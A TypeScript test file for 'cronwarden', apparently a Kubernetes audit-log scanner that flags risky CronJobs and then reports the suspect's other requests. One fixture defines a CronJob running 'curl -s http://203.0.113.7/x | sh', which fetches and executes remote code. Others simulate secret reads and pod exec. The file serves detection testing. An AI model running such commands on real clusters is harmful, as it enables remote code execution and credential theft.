import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import type { Caller } from '../model/call.ts';
import type { Finding } from '../model/finding.ts';
import { resolveInputs } from '../source/resolve.ts';
import { mayNameIn } from './call-finder.ts';
import { tellCalls } from './calls.ts';
import { extracts } from './extracts.ts';
import { createPool } from './pool.ts';
import { type ScanOptions, scan } from './scan.ts';
import { DEFAULT_SETTINGS } from './settings.ts';
import { withoutPlaces as withoutOrigins } from './testing.ts';

const folder = mkdtempSync(join(tmpdir(), 'cronwarden-calls-'));
after(() => rmSync(folder, { recursive: true, force: true }));

const JANE = 'jane@example.com';
const ACCOUNT = 'system:serviceaccount:dev:reporter';
let ids = 0;

interface Asked {
  readonly by?: string;
  readonly verb?: string;
  readonly resource?: string;
  readonly subresource?: string;
  readonly namespace?: string | null;
  readonly name?: string;
  readonly code?: number;
  readonly minute?: number;
  readonly pod?: string;
  readonly uid?: string;
  readonly stage?: string;
  readonly more?: object;
}
const asked = (given: Asked = {}) => {
  const { by = JANE, verb = 'list', resource = 'secrets', namespace = 'kube-system', code = 200, minute = 30 } = given;
  const { subresource, name, pod, uid, stage = 'ResponseComplete' } = given;
  const at = `2026-11-24T06:${String(minute).padStart(2, '0')}:00.000000Z`;
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    auditID: `00000000-0000-4000-8000-${String(++ids).padStart(12, '0')}`,
    stage,
    requestURI: `/api/v1/${resource}`,
    verb,
    user: {
      username: by,
      groups: ['system:authenticated'],
      ...(pod === undefined
        ? {}
        : {
            extra: {
              'authentication.kubernetes.io/pod-name': [pod],
              ...(uid === undefined ? {} : { 'authentication.kubernetes.io/pod-uid': [uid] }),
            },
          }),
    },
    sourceIPs: ['192.0.2.7'],
    userAgent: 'kubectl/v1.34.1',
    objectRef: { resource, apiVersion: 'v1', namespace: namespace ?? undefined, subresource, name },
    responseStatus: { metadata: {}, code },
    requestReceivedTimestamp: at,
    stageTimestamp: at,
    ...given.more,
  };
};
/** A CronJob that is high by what it does. */
const attack = (by = JANE, name = 'report', serviceAccountName = 'reporter') =>
  asked({
    by,
    verb: 'create',
    resource: 'cronjobs',
    namespace: 'dev',
    name,
    code: 201,
    minute: 10,
    more: {
      level: 'Request',
      objectRef: { resource: 'cronjobs', apiGroup: 'batch', apiVersion: 'v1', namespace: 'dev', name },
      requestObject: {
        apiVersion: 'batch/v1',
        kind: 'CronJob',
        metadata: { name, namespace: 'dev' },
        spec: {
          schedule: '0 3 * * *',
          jobTemplate: {
            spec: {
              template: {
                spec: {
                  restartPolicy: 'Never',
                  serviceAccountName,
                  containers: [
                    { name: 'main', image: 'busybox:1.36', command: ['sh', '-c', 'curl -s http://203.0.113.7/x | sh'] },
                  ],
                },
              },
            },
          },
        },
      },
    },
  });
const lease = () => asked({ by: 'system:node:n1', verb: 'update', resource: 'leases', namespace: 'kube-node-lease' });

let files = 0;
const written = (
  lines: readonly (object | string)[],
  pack: (text: string) => string | Buffer = (text) => text,
): string => {
  const path = join(folder, `${++files}.jsonl`);
  writeFileSync(
    path,
    pack(`${lines.map((one) => (typeof one === 'string' ? one : JSON.stringify(one))).join('\n')}\n`),
  );
  return path;
};
const found = async (paths: readonly string[], options: Partial<ScanOptions> = {}): Promise<readonly Finding[]> => {
  const findings: Finding[] = [];
  for await (const one of scan({ paths, jobs: 1, minSeverity: 'high', ...options }).findings) findings.push(one);
  return findings;
};
const told = ({ calls }: Finding | { calls?: Finding['calls'] }): readonly string[] =>
  (calls?.told ?? []).map(({ by, says, certainty }) => `${by}: ${says} (${certainty})`);
const isUnlooked = ({ unassessed }: Finding): boolean =>
  unassessed.some(({ id, because }) => id === 'sequence.other-calls' && because === 'not-kept');

const ajv = new Ajv2020({ strict: false });
addFormats.default(ajv);
const isValid = ajv.compile(JSON.parse(readFileSync(new URL('../../schema/finding.v1.json', import.meta.url), 'utf8')));

test('what the author and the pods of the workload asked for is told, and nothing of others', async () => {
  const pod = 'report-29384640-x7k2p';
  const path = written([
    attack(),
    ...[1, 2, 3].map((minute) => asked({ by: ACCOUNT, pod, uid: 'u-1', code: 403, minute: 20 + minute })),
    asked({ by: ACCOUNT, pod: 'other-6d4f', verb: 'delete', resource: 'pods', namespace: 'dev' }),
    asked({ verb: 'get', resource: 'secrets', name: 'db-password', namespace: 'shop', minute: 5 }),
    asked({ verb: 'create', resource: 'pods', subresource: 'exec', name: 'web-0', namespace: 'shop', code: 101 }),
    asked({ by: 'ops@example.com', verb: 'get', resource: 'secrets', name: 'theirs' }),
    asked({ by: 'jane@example.community', verb: 'get', resource: 'secrets', name: 'theirs' }),
    asked({ by: 'ops@example.com', more: { userAgent: `as ${JANE}` } }),
    lease(),
  ]);
  const [finding] = await found([path]);
  assert.ok(finding);
  assert.deepEqual(told(finding), [
    'pod: pods of this workload listed secrets in kube-system 3 times, refused (inferred)',
    'actor: jane@example.com created pods/exec web-0 in shop once, with what result is not logged (proved)',
    'actor: jane@example.com read secrets db-password in shop once (proved)',
  ]);
  const [first] = finding.calls?.told ?? [];
  assert.equal(first?.count, 3);
  assert.deepEqual([first?.firstSeen, first?.lastSeen], ['2026-11-24T06:21:00.000000Z', '2026-11-24T06:23:00.000000Z']);
  assert.equal(first?.event.time, first?.firstSeen);
  assert.equal(finding.calls?.whole, true);
  assert.ok(!isUnlooked(finding));
  assert.match(finding.summary, /Besides, pods of this workload listed secrets in kube-system 3 times, refused; jane@/);
  assert.ok(isValid(JSON.parse(JSON.stringify(finding))), JSON.stringify(isValid.errors));
});

test('it weighs nothing', async () => {
  const alone = await found([written([attack()])]);
  const around = await found([
    written([attack(), asked({ verb: 'get', name: 'a' }), asked({ verb: 'get', name: 'b' })]),
  ]);
  assert.deepEqual(alone[0]?.breakdown, around[0]?.breakdown);
  assert.equal(alone[0]?.calls, undefined);
  assert.equal(around[0]?.calls?.told[0]?.count, 2);
});

test('the same in every wrapping, packing and way to read', async () => {
  const events = [attack(), asked({ verb: 'get', name: 'a' }), asked({ by: ACCOUNT, pod: 'report-1-abcde' }), lease()];
  const lines = events.map((event) => JSON.stringify(event));
  const wrap = (log: string): string =>
    JSON.stringify({ category: 'kube-audit', properties: { log }, time: '2026-11-24T06:00:00Z' });
  const expected = told((await found([written(lines)]))[0] ?? {});
  assert.equal(expected.length, 2);
  const paths: Readonly<Record<string, string>> = {
    'a string in a line': written(lines.map(wrap)),
    'a string in a string': written(lines.map((line) => JSON.stringify({ log: wrap(line), stream: 'stdout' }))),
    gzip: written(lines, gzipSync),
    'a list': written([JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: events })]),
    pretty: written(events.map((event) => JSON.stringify(event, null, 2))),
    'letters as escapes': written(lines.map((line) => line.replaceAll('jane@', 'j\\u0061ne@'))),
  };
  for (const [name, path] of Object.entries(paths))
    assert.deepEqual(told((await found([path]))[0] ?? {}), expected, name);
  const path = written(lines);
  for (const options of [{ partBytes: 1 }, { jobs: 2, partBytes: 700, inlineBytes: 0 }, { strict: true }])
    assert.deepEqual(told((await found([path], options))[0] ?? {}), expected, JSON.stringify(options));
  const split = lines.map((line) => written([line]));
  assert.deepEqual(told((await found(split))[0] ?? {}), expected);
  assert.deepEqual(told((await found([path, path]))[0] ?? {}), expected, 'a file that was given twice');
});

test('names that JSON, Go or a table write otherwise are found, and one that cannot be looked for is said', async () => {
  for (const by of ['a<b>&"c\\d long/name', 'Зоя/example-user', 'CORP\\jane.doe']) {
    const event = JSON.stringify(asked({ by, verb: 'get', name: 'a' }));
    const go = event.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e').replaceAll('&', '\\u0026');
    const [finding] = await found([written([attack(by), go])]);
    assert.equal(finding?.calls?.told[0]?.username, by);
    assert.equal(finding?.calls?.whole, true);
  }
  const [finding] = await found([written([attack('Зоя'), asked({ by: 'Зоя', verb: 'get', name: 'a' })])]);
  assert.deepEqual(finding?.calls, { told: [], more: 0, whole: false });
});

test('the order of records makes no difference', async () => {
  const calls = ['d', 'a', 'c', 'b'].map((name, index) => asked({ verb: 'get', name, minute: index < 2 ? 20 : 15 }));
  const events = [attack(), ...calls];
  const withoutPlaces = ({ calls: found = { told: [], more: 0, whole: true } }: Finding) =>
    found.told.map(({ event: { auditId, time }, ...one }) => ({ ...one, event: { auditId, time } }));
  const [one] = await found([written(events)]);
  const [other] = await found([written([...events].reverse())]);
  assert.ok(one !== undefined && other !== undefined);
  assert.deepEqual(one.calls?.told[0]?.names, ['a', 'b', 'c']);
  assert.deepEqual(withoutPlaces(one), withoutPlaces(other));
});

test('both stages of a request count once, and not those that only began', async () => {
  const watch = asked({ verb: 'watch', stage: 'ResponseStarted' });
  const began = asked({ verb: 'delete', resource: 'pods', stage: 'RequestReceived' });
  const [finding] = await found([written([attack(), watch, { ...watch, stage: 'ResponseComplete' }, began])]);
  assert.deepEqual(told(finding ?? {}), ['actor: jane@example.com watched secrets in kube-system once (proved)']);
});

test('a client that sends one audit id with all of its requests hides none of them', async () => {
  const first = attack();
  const same = [1, 2, 3].map((minute) => ({
    ...asked({ verb: 'get', name: `s${minute}`, minute }),
    auditID: first.auditID,
  }));
  const [finding] = await found([written([first, ...same])]);
  assert.deepEqual(told(finding ?? {}), ['actor: jane@example.com read secrets in kube-system 3 times (proved)']);
});

test('an account is told without its pod only where no other pod is seen to use it', async () => {
  const bare = asked({ by: ACCOUNT, verb: 'get', name: 'a' });
  const [alone] = await found([written([attack(), bare])]);
  assert.deepEqual(
    told(alone ?? {}).map((one) => one.slice(0, 16)),
    ['service-account:'],
  );
  const [shared] = await found([written([attack(), bare, asked({ by: ACCOUNT, pod: 'web-0' })])]);
  assert.equal(shared?.calls, undefined);
});

test('impersonated requests are those of whom they ran as', async () => {
  const as = asked({ by: 'ops@example.com', verb: 'get', name: 'a', more: { impersonatedUser: { username: JANE } } });
  const [finding] = await found([written([attack(), as])]);
  assert.equal(finding?.calls?.told.length, 1);
});

test('what came in a pipe is not kept, and neither is it for findings that go out at once', async () => {
  const path = written([attack(), asked({ verb: 'get', name: 'a' })]);
  const [early] = await found([path], { waits: false });
  assert.ok(early !== undefined && isUnlooked(early));
  assert.equal(early.calls, undefined);
  assert.ok(isValid(JSON.parse(JSON.stringify(early))), JSON.stringify(isValid.errors));

  const findings = await found([path]);
  const { inputs } = await resolveInputs([path]);
  const stdin = { name: '-', encoding: 'plain', path: null, size: null } as const;
  const pool = createPool(DEFAULT_SETTINGS, 1);
  const without = findings.map(({ calls, ...finding }) => finding);
  const options = {
    cluster: undefined,
    read: (input: (typeof inputs)[number], search: Parameters<Parameters<typeof tellCalls>[1]['read']>[1]) =>
      extracts(input, DEFAULT_SETTINGS, pool, [], search),
    failed: () => false,
  };
  const piped = await tellCalls(without, { ...options, inputs: [stdin] });
  assert.ok(piped.findings.every((one) => isUnlooked(one) && one.calls === undefined));
  const both = await tellCalls(without, { ...options, inputs: [...inputs, stdin] });
  assert.ok(both.findings.every((one) => isUnlooked(one) && one.calls?.told.length === 1));
  const least = await tellCalls(without, { ...options, inputs, mostAsked: 0 });
  assert.deepEqual(
    least.findings.map(({ calls }) => calls),
    [{ told: [], more: 0, whole: false }],
  );
});

test('who asks more than anybody reads is told of by what he asked first, however the log is cut', async () => {
  const noise = Array.from({ length: 400 }, (_, index) =>
    asked({ by: 'audit', resource: 'pods', namespace: 'shop', minute: index % 60 }),
  );
  const events = [attack('audit', 'loud', 'loud'), attack(), ...noise, asked({ verb: 'get', name: 'a' }), ...noise];
  const files = [
    [written(events)],
    [written(events.slice(0, 50)), written(events.slice(50, 301)), written(events.slice(301))],
  ];
  const findings = (await found(files[0] ?? [])).map(({ calls, ...finding }) => finding);
  for (const mostAsked of [1, 99, 399]) {
    const all: (readonly Finding[])[] = [];
    for (const paths of files) {
      const { inputs } = await resolveInputs(paths);
      for (const [partBytes, jobs] of [
        [1000, 1],
        [5000, 3],
        [4_000_000, 1],
      ] as const) {
        const settings = { ...DEFAULT_SETTINGS, partBytes, inlineBytes: 0 };
        const pool = createPool(settings, jobs);
        const { findings: looked } = await tellCalls(findings, {
          inputs,
          cluster: undefined,
          read: (input, search) => extracts(input, settings, pool, [], search),
          failed: () => false,
          mostAsked,
        });
        await pool.close();
        all.push(looked);
      }
    }
    const [first = [], ...others] = all;
    const [loud, jane] = first;
    // One of his requests is the write itself.
    assert.deepEqual([loud?.calls?.whole, loud?.calls?.told[0]?.count ?? 0], [false, mostAsked - 1]);
    assert.deepEqual([jane?.calls?.whole, jane?.calls?.told.length], [mostAsked > 1, mostAsked > 1 ? 1 : 0]);
    for (const one of others) assert.deepEqual(one.map(withoutOrigins), first.map(withoutOrigins));
  }
});

test('a name that is a part of other words costs nothing, and is found where it is one of its own', () => {
  const audit: Caller = { username: 'audit', needle: 'audit' };
  const others = JSON.stringify(asked());
  assert.equal(mayNameIn(others, audit), false);
  const own = JSON.stringify(asked({ by: 'audit' }));
  const forms = [
    own,
    JSON.stringify({ log: own }),
    JSON.stringify({ log: { log: own } }),
    `"${own.replaceAll('"', '""')}"`,
  ];
  for (const form of forms) assert.equal(mayNameIn(form, audit), true, form);
  assert.equal(mayNameIn(own.replace('"username":"audit"', String.raw`"username":\u0022audit\u0022`), audit), true);
  assert.equal(
    mayNameIn('{"username":"it is audit of ours"}', { username: 'it is audit of ours', needle: 'audit' }),
    true,
  );
});

test('kinds of request are bounded, and the rest is counted', async () => {
  const many = Array.from({ length: 300 }, (_, index) => asked({ verb: 'get', namespace: `n${index}`, name: 'a' }));
  const [finding] = await found([written([attack(), ...many])]);
  assert.equal(finding?.calls?.told.length, 20);
  assert.equal((finding?.calls?.told.length ?? 0) + (finding?.calls?.more ?? 0), 300);
  const users = Array.from({ length: 40 }, (_, index) => attack(`user${index}@example.com`, `job-${index}`));
  const run = scan({ paths: [written(users)], jobs: 1, minSeverity: 'high' });
  const findings: Finding[] = [];
  for await (const one of run.findings) findings.push(one);
  assert.equal(findings.filter(isUnlooked).length, 9);
  assert.match(run.summary().warnings.join(), /what the suspects of 9 findings asked for besides was not looked for/);
});
